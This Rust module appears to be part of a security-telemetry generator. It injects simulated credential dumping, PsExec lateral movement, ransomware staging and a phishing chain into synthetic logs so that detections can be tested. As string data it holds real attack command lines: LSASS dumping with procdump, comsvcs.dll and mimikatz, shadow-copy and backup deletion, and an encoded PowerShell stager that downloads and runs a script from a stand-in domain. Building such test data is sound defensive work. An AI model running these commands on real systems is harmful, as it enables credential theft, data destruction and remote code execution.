//! Attacks injected into generated telemetry, each leaving the traces the real technique leaves
//! (process trees, files, sign-ins, connections, mail) plus the alert a sensor would raise, and a
//! ground-truth record so tests can check that hunts and detections find exactly these.

use rand::Rng;
use rand_chacha::ChaCha8Rng;
use serde::{Deserialize, Serialize};

use crate::activity::{SECOND, TenantContext, ip_of};
use crate::cloud::{Mail, click, deliver, identity_logon};
use crate::population::{Device, DeviceRole, guid_of, pick};
use crate::telemetry::{Alert, Connection, FileTouch, Logon, Proc, Telemetry};
use crate::vocabulary::DOCUMENTS;

/// The kinds of attack the generator can inject.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum AttackKind {
    /// LSASS memory dumped with procdump, comsvcs.dll and mimikatz.
    CredentialDumping,
    /// PsExec and WMI from a workstation to a server with an admin account.
    LateralMovement,
    /// Shadow copies and backups deleted, recovery disabled, files renamed `.locked`.
    RansomwareStaging,
    /// A phishing mail's link clicked, then Office starts encoded PowerShell.
    PhishingClick,
}

impl AttackKind {
    pub const ALL: [AttackKind; 4] = [
        AttackKind::CredentialDumping,
        AttackKind::LateralMovement,
        AttackKind::RansomwareStaging,
        AttackKind::PhishingClick,
    ];
}

/// One injected attack: where and when, and what marks it.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct InjectedAttack {
    pub kind: AttackKind,
    pub tenant: String,
    /// The device the attack ran on (for lateral movement: the source).
    pub device_name: String,
    pub device_id: String,
    /// The device reached, for lateral movement.
    pub target_device: Option<String>,
    pub account: String,
    /// Unix nanoseconds of the first event.
    pub start_ns: i64,
    /// ISO 8601 of the first event.
    pub start: String,
    pub alert_id: String,
    /// Strings that appear in the attack's events (file names, command-line fragments, domains).
    pub indicators: Vec<String>,
}

const ENCODED_STAGER: &str = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAcwA6AC8ALwBjAGQAbgAtAGQAbwBjAHYAaQBlAHcALgBuAGUAdAAvAHMAdABhAGcAZQAyAC4AcABzADEAJwApAA==";
const STAGER_DOMAIN: &str = "cdn-docview.net";

/// Injects `kind` into the tenant at `time`; returns its record.
pub(crate) fn inject(
    ctx: &mut TenantContext<'_>,
    out: &mut Telemetry,
    rng: &mut ChaCha8Rng,
    kind: AttackKind,
    time: i64,
) -> InjectedAttack {
    let tenant = ctx.tenant;
    let workstations: Vec<&Device> = tenant.devices.iter().filter(|d| !d.is_server()).collect();
    let dev = if workstations.is_empty() { &tenant.devices[0] } else { *pick(rng, &workstations) };
    let alert_id = format!("da{}", &guid_of(&format!("{}/{kind:?}/{time}", tenant.id)).replace('-', "")[..20]);
    let (target, account, indicators) = match kind {
        AttackKind::CredentialDumping => credential_dumping(ctx, out, rng, dev, time),
        AttackKind::LateralMovement => lateral_movement(ctx, out, rng, dev, time),
        AttackKind::RansomwareStaging => ransomware_staging(ctx, out, rng, dev, time),
        AttackKind::PhishingClick => phishing_click(ctx, out, rng, dev, time),
    };
    let (title, category, severity, techniques) = match kind {
        AttackKind::CredentialDumping => {
            ("Credential dumping from LSASS memory", "CredentialAccess", "High", r#"["T1003.001"]"#)
        }
        AttackKind::LateralMovement => {
            ("Lateral movement using PsExec", "LateralMovement", "Medium", r#"["T1021.002","T1569.002"]"#)
        }
        AttackKind::RansomwareStaging => {
            ("Ransomware behavior: shadow copies deleted and files encrypted", "Impact", "High", r#"["T1490","T1486"]"#)
        }
        AttackKind::PhishingClick => (
            "Office application launched encoded PowerShell after a link click",
            "InitialAccess",
            "Medium",
            r#"["T1566.002","T1059.001"]"#,
        ),
    };
    let alert_time = time + 5 * 60 * SECOND;
    out.alert(&Alert {
        id: &alert_id,
        time: alert_time,
        title,
        category,
        severity,
        techniques,
        entity: "Process",
        file: &indicators[0],
        command: indicators.get(1).map(String::as_str),
        account: Some(&account),
        device: dev,
    });
    InjectedAttack {
        kind,
        tenant: tenant.id.to_string(),
        device_name: dev.name.clone(),
        device_id: dev.id.clone(),
        target_device: target,
        account,
        start_ns: time,
        start: chrono::DateTime::from_timestamp_nanos(time).to_rfc3339_opts(chrono::SecondsFormat::Secs, true),
        alert_id,
        indicators,
    }
}

type Outcome = (Option<String>, String, Vec<String>);

/// The device owner's explorer and a shell under it.
fn user_shell(ctx: &mut TenantContext<'_>, rng: &mut ChaCha8Rng, dev: &Device, time: i64, admin: bool) -> (Proc, Proc) {
    let user = if admin { ctx.users[0].clone() } else { ctx.users[dev.owner % ctx.users.len()].clone() };
    let explorer =
        ctx.spawn(rng, "explorer.exe", r"C:\Windows\Explorer.EXE".into(), None, &user, time - 3 * 3600 * SECOND);
    let shell = ctx.spawn(rng, "cmd.exe", r#""C:\Windows\system32\cmd.exe""#.into(), Some(&explorer), &user, time);
    (explorer, shell)
}

fn credential_dumping(
    ctx: &mut TenantContext<'_>,
    out: &mut Telemetry,
    rng: &mut ChaCha8Rng,
    dev: &Device,
    t: i64,
) -> Outcome {
    let (explorer, mut cmd) = user_shell(ctx, rng, dev, t, false);
    cmd.integrity = "High";
    out.process_created(dev, &cmd, &explorer);
    let user = cmd.account.clone();
    let dump = format!(r"C:\Users\{}\AppData\Local\Temp\lsass.dmp", user.name);
    let procdump = ctx.spawn(
        rng,
        "procdump64.exe",
        format!("procdump64.exe -accepteula -ma lsass.exe {dump}"),
        Some(&cmd),
        &user,
        t + 20 * SECOND,
    );
    out.process_created(dev, &procdump, &cmd);
    out.device_event(
        dev,
        t + 21 * SECOND,
        "OpenProcessApiCall",
        Some(("lsass.exe", r"C:\Windows\System32\lsass.exe")),
        None,
        r#"{"DesiredAccess":2097151}"#,
        &procdump,
    );
    let touch = FileTouch {
        name: "lsass.dmp",
        folder: &dump[..dump.len() - 10],
        size: 48_211_968,
        previous_name: None,
        origin_url: None,
    };
    out.file(dev, t + 24 * SECOND, "FileCreated", &touch, &procdump);
    let powershell = ctx.spawn(rng, "powershell.exe", "powershell.exe".into(), Some(&cmd), &user, t + 90 * SECOND);
    out.process_created(dev, &powershell, &cmd);
    let rundll = ctx.spawn(
        rng,
        "rundll32.exe",
        r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 668 C:\Windows\Temp\debug.bin full".into(),
        Some(&powershell),
        &user,
        t + 100 * SECOND,
    );
    out.process_created(dev, &rundll, &powershell);
    out.image_load(dev, t + 100 * SECOND, "comsvcs.dll", r"C:\Windows\System32", &rundll);
    let mimikatz = ctx.spawn(
        rng,
        "mimikatz.exe",
        r#"mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit"#.into(),
        Some(&cmd),
        &user,
        t + 180 * SECOND,
    );
    out.process_created(dev, &mimikatz, &cmd);
    let indicators = vec![
        "procdump64.exe".into(),
        format!("procdump64.exe -accepteula -ma lsass.exe {dump}"),
        "sekurlsa::logonpasswords".into(),
        "comsvcs.dll, MiniDump".into(),
    ];
    (None, user.name.clone(), indicators)
}

fn lateral_movement(
    ctx: &mut TenantContext<'_>,
    out: &mut Telemetry,
    rng: &mut ChaCha8Rng,
    dev: &Device,
    t: i64,
) -> Outcome {
    let tenant = ctx.tenant;
    let target = tenant.devices.iter().find(|d| d.role == DeviceRole::FileServer).unwrap_or(&tenant.devices[0]);
    let (explorer, cmd) = user_shell(ctx, rng, dev, t, true);
    out.process_created(dev, &cmd, &explorer);
    let admin = cmd.account.clone();
    let host = target.name.split('.').next().unwrap_or(&target.name).to_string();
    let remote_command = r#"cmd.exe /c "whoami /all & net group \"Domain Admins\" /domain""#;
    let psexec_line = format!(r"PsExec.exe \\{host} -accepteula -s {remote_command}");
    let psexec = ctx.spawn(rng, "PsExec.exe", psexec_line.clone(), Some(&cmd), &admin, t + 10 * SECOND);
    out.process_created(dev, &psexec, &cmd);
    let smb = Connection {
        remote_ip: &target.ip,
        remote_port: 445,
        remote_url: None,
        local_ip: &dev.ip,
        local_port: rng.random_range(49_152..65_535),
    };
    out.connection(dev, t + 11 * SECOND, "ConnectionSuccess", &smb, &psexec);
    let admin_user = &tenant.users[0];
    identity_logon(tenant, out, t + 11 * SECOND, admin_user, (&dev.name, &dev.ip), None, "Ntlm");
    let system = ctx.system.clone();
    let services =
        ctx.spawn(rng, "services.exe", r"C:\Windows\system32\services.exe".into(), None, &system, t - 86_400 * SECOND);
    let logon = Logon {
        logon_type: "Network",
        account: &admin,
        protocol: "NTLM",
        failure: None,
        local_admin: true,
        remote_device: Some(&dev.name),
        remote_ip: Some(&dev.ip),
    };
    out.logon(target, t + 12 * SECOND, &logon, &services);
    let service =
        ctx.spawn(rng, "PSEXESVC.exe", r"C:\Windows\PSEXESVC.exe".into(), Some(&services), &system, t + 13 * SECOND);
    out.process_created(target, &service, &services);
    let remote = ctx.spawn(rng, "cmd.exe", remote_command.into(), Some(&service), &system, t + 14 * SECOND);
    out.process_created(target, &remote, &service);
    let wmic_line = format!(r#"wmic.exe /node:{host} process call create "cmd.exe /c net user /domain""#);
    let wmic = ctx.spawn(rng, "wmic.exe", wmic_line.clone(), Some(&cmd), &admin, t + 120 * SECOND);
    out.process_created(dev, &wmic, &cmd);
    (
        Some(target.name.clone()),
        admin.name.clone(),
        vec!["PsExec.exe".into(), psexec_line, "PSEXESVC.exe".into(), wmic_line],
    )
}

fn ransomware_staging(
    ctx: &mut TenantContext<'_>,
    out: &mut Telemetry,
    rng: &mut ChaCha8Rng,
    dev: &Device,
    t: i64,
) -> Outcome {
    let (explorer, cmd) = user_shell(ctx, rng, dev, t, false);
    let user = cmd.account.clone();
    let system = ctx.system.clone();
    let powershell = ctx.spawn(
        rng,
        "powershell.exe",
        r"powershell.exe -ExecutionPolicy Bypass -WindowStyle Hidden -File C:\ProgramData\svcupdate\run.ps1".into(),
        Some(&explorer),
        &user,
        t,
    );
    out.process_created(dev, &powershell, &explorer);
    let payload = FileTouch {
        name: "svcupdate.exe",
        folder: r"C:\ProgramData\svcupdate",
        size: 2_611_712,
        previous_name: None,
        origin_url: None,
    };
    out.file(dev, t + 5 * SECOND, "FileCreated", &payload, &powershell);
    let encryptor = ctx.spawn(
        rng,
        "svcupdate.exe",
        r"C:\ProgramData\svcupdate\svcupdate.exe --silent".into(),
        Some(&powershell),
        &system,
        t + 10 * SECOND,
    );
    out.process_created(dev, &encryptor, &powershell);
    let mut offset = 15;
    let commands = [
        ("vssadmin.exe", "vssadmin.exe delete shadows /all /quiet"),
        ("wbadmin.exe", "wbadmin delete catalog -quiet"),
        ("bcdedit.exe", "bcdedit.exe /set {default} recoveryenabled No"),
    ];
    for (name, line) in commands {
        let child = ctx.spawn(rng, name, line.into(), Some(&encryptor), &system, t + offset * SECOND);
        out.process_created(dev, &child, &encryptor);
        offset += 3;
    }
    out.registry(
        dev,
        t + 20 * SECOND,
        r"HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows\CurrentVersion\Run",
        "svcupdate",
        r"C:\ProgramData\svcupdate\svcupdate.exe --silent",
        "String",
        &encryptor,
    );
    let folder = format!(r"C:\Users\{}\Documents", user.name);
    for n in 0..40 {
        let original = format!("{} {n}.docx", pick(rng, DOCUMENTS));
        let renamed = format!("{original}.locked");
        let touch = FileTouch {
            name: &renamed,
            folder: &folder,
            size: rng.random_range(10_000..900_000),
            previous_name: Some(&original),
            origin_url: None,
        };
        out.file(dev, t + (40 + n) * SECOND, "FileRenamed", &touch, &encryptor);
    }
    let note = FileTouch {
        name: "README_RESTORE_FILES.txt",
        folder: &folder,
        size: 2_113,
        previous_name: None,
        origin_url: None,
    };
    out.file(dev, t + 90 * SECOND, "FileCreated", &note, &encryptor);
    let _ = cmd;
    (
        None,
        user.name.clone(),
        vec![
            "vssadmin.exe".into(),
            "vssadmin.exe delete shadows /all /quiet".into(),
            ".locked".into(),
            "README_RESTORE_FILES.txt".into(),
        ],
    )
}

fn phishing_click(
    ctx: &mut TenantContext<'_>,
    out: &mut Telemetry,
    rng: &mut ChaCha8Rng,
    dev: &Device,
    t: i64,
) -> Outcome {
    let tenant = ctx.tenant;
    let user_index = dev.owner % tenant.users.len();
    let victim = &tenant.users[user_index];
    let lure_domain = format!("{}-billing-portal.com", tenant.domain.trim_end_matches(".com"));
    let url = format!("https://{lure_domain}/invoice/{}", &guid_of(&format!("{}/{t}", tenant.id))[..8]);
    let sender = format!("accounts@{lure_domain}");
    let urls = vec![url.clone()];
    let mail = Mail {
        time: t,
        from: &sender,
        from_name: "Accounts Payable",
        to: victim,
        subject: "Overdue invoice - payment required today",
        urls: &urls,
        threat: None,
        sender_ip: &ip_of(&lure_domain),
    };
    let message = deliver(out, &mail);
    click(out, t + 240 * SECOND, &url, victim, &message, &dev.ip, None);
    let user = ctx.users[user_index].clone();
    let explorer =
        ctx.spawn(rng, "explorer.exe", r"C:\Windows\Explorer.EXE".into(), None, &user, t - 3 * 3600 * SECOND);
    let edge = ctx.spawn(
        rng,
        "msedge.exe",
        format!(r#""C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe" --single-argument {url}"#),
        Some(&explorer),
        &user,
        t + 241 * SECOND,
    );
    out.process_created(dev, &edge, &explorer);
    let lure_ip = ip_of(&lure_domain);
    let visit = Connection {
        remote_ip: &lure_ip,
        remote_port: 443,
        remote_url: Some(&lure_domain),
        local_ip: &dev.ip,
        local_port: rng.random_range(49_152..65_535),
    };
    out.connection(dev, t + 242 * SECOND, "ConnectionSuccess", &visit, &edge);
    let document = format!("Invoice_{}.docm", rng.random_range(1000..9999));
    let downloads = format!(r"C:\Users\{}\Downloads", user.name);
    let download =
        FileTouch { name: &document, folder: &downloads, size: 84_480, previous_name: None, origin_url: Some(&url) };
    out.file(dev, t + 250 * SECOND, "FileCreated", &download, &edge);
    let word = ctx.spawn(
        rng,
        "WINWORD.EXE",
        format!(r#""C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "{downloads}\{document}""#),
        Some(&explorer),
        &user,
        t + 300 * SECOND,
    );
    out.process_created(dev, &word, &explorer);
    let stager_line = format!("powershell.exe -nop -w hidden -enc {ENCODED_STAGER}");
    let stager = ctx.spawn(rng, "powershell.exe", stager_line.clone(), Some(&word), &user, t + 310 * SECOND);
    out.process_created(dev, &stager, &word);
    let stager_ip = ip_of(STAGER_DOMAIN);
    let fetch = Connection {
        remote_ip: &stager_ip,
        remote_port: 443,
        remote_url: Some(STAGER_DOMAIN),
        local_ip: &dev.ip,
        local_port: rng.random_range(49_152..65_535),
    };
    out.connection(dev, t + 312 * SECOND, "ConnectionSuccess", &fetch, &stager);
    (None, user.name.clone(), vec![document, stager_line, url, lure_domain, STAGER_DOMAIN.into()])
}
